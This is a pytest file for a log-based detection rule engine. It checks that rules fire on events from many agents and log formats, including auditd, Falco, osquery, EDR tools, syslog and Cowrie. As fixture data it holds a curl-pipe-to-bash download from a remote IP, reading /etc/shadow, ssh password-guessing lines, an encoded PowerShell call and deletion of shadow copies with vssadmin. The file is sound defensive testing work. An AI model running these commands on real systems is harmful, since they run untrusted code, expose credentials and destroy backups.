"""Rules for what hosts run and who logs on to them hit whichever agent, sensor or relay tells it."""
import doctest
import json

import pytest

import aiscore_contract.forms.agents
from aiscore_rules.engine import RuleEngine
from aiscore_rules.fields import read_facts
from aiscore_rules.logsource import label
from aiscore_rules.pack import default_pack_path, load_pack

ENGINE = RuleEngine(load_pack(default_pack_path()))
PIPED = "curl http://45.9.148.10/x.sh | bash"
HEX = PIPED.encode().hex().upper()
ARGV = ["bash", "-c", PIPED]
GUESSED = "Failed password for root from 45.9.148.10 port 4444 ssh2"
OSQUERY = {"hostIdentifier": "web1", "unixTime": 1, "name": "process_events", "action": "added"}


def hits(event, sourcetype=""):
    return set(ENGINE.judge(event if isinstance(event, str) else json.dumps(event), sourcetype).rule_ids)


COMMANDS = {
    "the kernel": f"Jan  1 00:00:00 web1 kernel: [12345.678901] audit: type=1309 audit(1700000000.123:4567): argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}",
    "the journal": f"Jan  1 00:00:00 web1 audit[7]: EXECVE argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}",
    "go-audit": {"sequence": 1, "timestamp": "1.1", "messages": [{"type": 1309, "data": f"argc=3 a0=\"bash\" a1=\"-c\" a2={HEX}"}]},
    "Laurel": {"ID": "1", "NODE": "web1", "SYSCALL": {"SYSCALL": "execve", "exe": "/usr/bin/bash"}, "EXECVE": {"argc": 3, "ARGV": ARGV}},
    "Tracee": {"processName": "bash", "eventName": "execve", "returnValue": 0, "args": [{"name": "argv", "type": "const char**", "value": ARGV}]},
    "Tracee in a table": {"processName": "bash", "eventName": "execve", "returnValue": 0, "args": str([{"name": "argv", "type": "const char**", "value": ARGV}])},
    "Tetragon": {"process_exec": {"process": {"binary": "/usr/bin/bash", "arguments": f"-c \"{PIPED}\""}}, "node_name": "n1"},
    "Falco": {"rule": "r", "priority": "Notice", "output_fields": {"proc.cmdline": f"bash -c {PIPED}", "proc.name": "bash"}},
    "Auditbeat": {"event": {"action": "executed", "module": "auditd"}, "process": {"executable": "/usr/bin/bash", "args": ARGV}},
    "osquery": {**OSQUERY, "columns": {"cmdline": f"bash -c {PIPED}", "path": "/usr/bin/bash", "pid": "9"}},
    "osquery's crontab": {**OSQUERY, "name": "crontab", "columns": {"command": f"root {PIPED}", "path": "/etc/crontab"}},
    "Endpoint Security": {"process": {"executable": {"path": "/bin/zsh"}}, "event": {"exec": {"target": {"executable": {"path": "/bin/bash"}}, "args": ARGV}}},
    "Falcon": {"event_simpleName": "ProcessRollup2", "ImageFileName": "/usr/bin/bash", "CommandLine": f"bash -c {PIPED}"},
    "SentinelOne": {"event.type": "Process Creation", "tgt.process.image.path": "/usr/bin/bash", "tgt.process.cmdline": f"bash -c {PIPED}"},
    "Defender": {"DeviceName": "web1", "ActionType": "ProcessCreated", "FolderPath": "/usr/bin/bash", "ProcessCommandLine": f"bash -c {PIPED}"},
    "cron": f"Jan  1 00:00:00 web1 CRON[901]: (root) CMD ({PIPED})",
    "doas": f"Jan  1 00:00:00 web1 doas: ann ran command sh -c {PIPED} as root from /tmp",
    "a shell": f"Jan  1 00:00:00 web1 bash: HISTORY: PID=901 UID=0 {PIPED}",
    "a prompt's hook": f"Jan  1 00:00:00 web1 ann: ann [901]: {PIPED} [0]",
    "zsh's history": f": 1700000000:0;{PIPED}",
    "ausearch": f"type=EXECVE msg=audit(01/02/2026 10:11:12.123:4567) : argc=3 a0=bash a1=-c a2={PIPED} ",
    "Falco's text": f"00:00:00.123456789: Notice Shell (user=root process=bash parent=runc command=bash -c {PIPED} terminal=34816 container_id=ab12)",
    "strace": f'execve("/bin/bash", ["bash", "-c", "{PIPED}"], 0x7ffd /* 20 vars */) = 0',
    "ps": f"root       901  0.0  0.1  12345  1234 ?        Ss   00:00   0:00 bash -c {PIPED}",
    "Tracee's own types": {"name": "sched_process_exec", "workload": {"process": {"executable": {"path": "/usr/bin/bash"}}}, "data": [{"name": "argv", "strArray": {"value": ARGV}}]},
    "KubeArmor": {"Type": "MatchedPolicy", "Source": "/usr/sbin/nginx", "Operation": "Process", "Resource": f"/usr/bin/bash -c {PIPED}", "Action": "Audit"},
    "Datadog": {"evt": {"name": "exec"}, "process": {"executable": {"path": "/usr/bin/bash"}, "args": f"-c '{PIPED}'"}},
    "a probe": {"event_type": "PROCESS_EXEC", "proc": {"comm": "bash", "exe": "/usr/bin/bash", "args": ARGV}},
    "a flat probe": {"kind": "exec", "comm": "bash", "filename": "/usr/bin/bash", "argv": ARGV},
    "sysdig": f"4072 10:11:12.123456789 2 bash (77) < execve res=0 exe=bash args=-c.{PIPED}. tid=77(bash) cwd=/",
    "the journal of a service": {"__REALTIME_TIMESTAMP": "1", "_COMM": "bash", "_EXE": "/usr/bin/bash", "_CMDLINE": f"bash -c {PIPED}", "SYSLOG_IDENTIFIER": "x", "MESSAGE": "started"},
    "pairs": f'host=web1 user=root exe=/usr/bin/bash cmdline="bash -c {PIPED}" pid=7',
    "pairs of arguments": f'level=info pid=77 comm=bash exe=/usr/bin/bash args="-c {PIPED}" uid=0',
    "Cowrie": {"eventid": "cowrie.command.input", "input": PIPED, "src_ip": "45.9.148.10"},
}


@pytest.mark.parametrize("event", COMMANDS.values(), ids=COMMANDS)
def test_a_download_run_by_a_shell_hits_whoever_tells_it(event):
    assert hits(event) >= {"da176c28-889b-531e-827e-f910c7602eee", "c7d8bf46-5b32-525a-9ef4-f39b8a4c9148"}


def test_a_line_of_history_is_a_command_where_its_sourcetype_says_so():
    assert "da176c28-889b-531e-827e-f910c7602eee" in hits(PIPED, "bash_history")
    assert "commandline" not in read_facts("hello there everybody").fields


LOGONS = {
    "sshd": "Jan  1 00:00:00 web1 sshd[901]: " + GUESSED,
    "sshd's new half": "Jan  1 00:00:00 web1 sshd-session[901]: " + GUESSED,
    "the journal's precise time": "Jan 01 00:00:00.123456 web1 sshd[901]: " + GUESSED,
    "macOS": "2026-01-01 00:00:00.123456+0000  localhost sshd[901]: " + GUESSED,
    "AIX": "Jan  1 00:00:00 aix1 auth|security:info sshd[901]: " + GUESSED,
    "journald": {"__REALTIME_TIMESTAMP": "1", "_HOSTNAME": "web1", "SYSLOG_IDENTIFIER": "sshd", "MESSAGE": GUESSED},
    "rsyslog": {"hostname": "web1", "programname": "sshd", "pri": "38", "msg": " " + GUESSED},
    "Filebeat": {"message": GUESSED, "process": {"name": "sshd"}, "log": {"file": {"path": "/var/log/auth.log"}}},
    "Azure": {"Computer": "web1", "Facility": "auth", "SyslogMessage": GUESSED, "ProcessName": "sshd"},
    "OpenTelemetry": {"resourceLogs": [{"scopeLogs": [{"logRecords": [{"body": {"stringValue": "Jan  1 00:00:00 web1 sshd[901]: " + GUESSED}}]}]}]},
    "Wazuh": {"rule": {"description": "x"}, "agent": {"name": "web1"}, "full_log": "Jan  1 00:00:00 web1 sshd[901]: " + GUESSED},
}


@pytest.mark.parametrize("event", LOGONS.values(), ids=LOGONS)
def test_a_guessed_password_hits_whichever_way_its_line_came(event):
    assert hits(event) >= hits(LOGONS["sshd"]) > set()


def test_sudos_own_log_hits_as_its_line_does():
    told = {"sudo": {"accept": {"command": "/bin/cat", "runargv": ["cat", "/etc/shadow"], "runuser": "root", "submitcwd": "/home/ann", "submituser": "ann", "ttyname": "/dev/pts/0"}}}
    line = "Jan  1 00:00:00 web1 sudo: ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/cat /etc/shadow"
    assert hits(told) == hits(line) > set()
    assert hits(line.replace("sudo:", "sudo-rs:")) == hits(line)


def test_what_a_policy_refused_hits_with_or_without_auditd():
    denied = 'apparmor="DENIED" operation="open" profile="/usr/sbin/mysqld" name="/etc/shadow" pid=9 comm="mysqld" requested_mask="r" denied_mask="r"'
    assert hits(f"Jan  1 00:00:00 web1 kernel: audit: type=1400 audit(1.1:2): {denied}") == hits(f"type=AVC msg=audit(1.1:2): {denied}") > set()


def test_what_sudo_lets_people_do_is_asked_of_sudos_rules_alone():
    facts = read_facts("Jan  1 00:00:00 web1 sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/less /etc/shadow")
    assert "process_creation" not in label(facts, "").categories


def test_a_windows_event_keeps_its_own_names():
    event = {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": "C:\\a.exe", "process": {"executable": "/bin/sh"}, "event": {"action": "exec"}}
    assert read_facts(json.dumps(event)).fields["image"] == "C:\\a.exe"


@pytest.mark.parametrize("odd", (None, True, 0, 1.5, "", [], {}, [[]], {"a": {}}, [{"name": 1}]), ids=repr)
def test_no_value_of_another_type_stops_a_reader(odd):
    for event in (*COMMANDS.values(), *LOGONS.values()):
        if isinstance(event, dict):
            for name, value in event.items():
                read_facts(json.dumps({**event, name: odd}))
                if isinstance(value, dict):
                    for inner in value:
                        read_facts(json.dumps({**event, name: {**value, inner: odd}}))


def test_examples_of_the_agents_lines_hold():
    failed, tried = doctest.testmod(aiscore_contract.forms.agents)
    assert tried and not failed


@pytest.mark.parametrize("event", [
    {"eventid": "cowrie.command.input", "input": "ls\nwget http://a.example/x", "src_ip": "203.0.113.9"},
    {"program": "bash", "hostname": "web3", "facility": "user", "message": "ls\nwget http://a.example/x"}])
def test_all_lines_of_a_command_are_read(event):
    fields = read_facts(json.dumps(event), "").fields
    assert "wget http://a.example/x" in fields["commandline"] and fields["image"] == "/ls"


def test_a_command_that_holds_the_sign_between_details_hides_nothing_of_itself():
    details = "Cmdline: powershell ¦ -enc AAAA ¦ Proc: C:\\x.exe ¦ Cmdline: notepad"
    for event in (json.dumps({"RuleTitle": "x", "Channel": "Sec", "EventID": 4688, "Computer": "ws1", "Details": details}),
                  f'"2031-03-14 10:11:12.000 +00:00","x","high","ws1","Sec",4688,123,"{details}",""'):
        assert read_facts(event, "").fields["commandline"] == "powershell ¦ -enc AAAA"


@pytest.mark.parametrize("event", ['host=ws1 user=bob process=C:\\Windows\\System32\\vssadmin.exe cmd="vssadmin delete shadows /all /quiet" pid=7',
                                   "host=ws1 user=bob exe=vssadmin.exe cmd=vssadmin delete shadows /all /quiet pid=7",
                                   {"host": "ws1", "user": "bob", "process": "C:\\Windows\\System32\\vssadmin.exe", "cmdline": "vssadmin delete shadows /all /quiet"}], ids=str)
def test_a_program_and_its_command_hit_under_an_agents_own_names(event):
    assert "1b9927ea-f96b-58a6-99ff-a09e5f7ceef8" in hits(event)
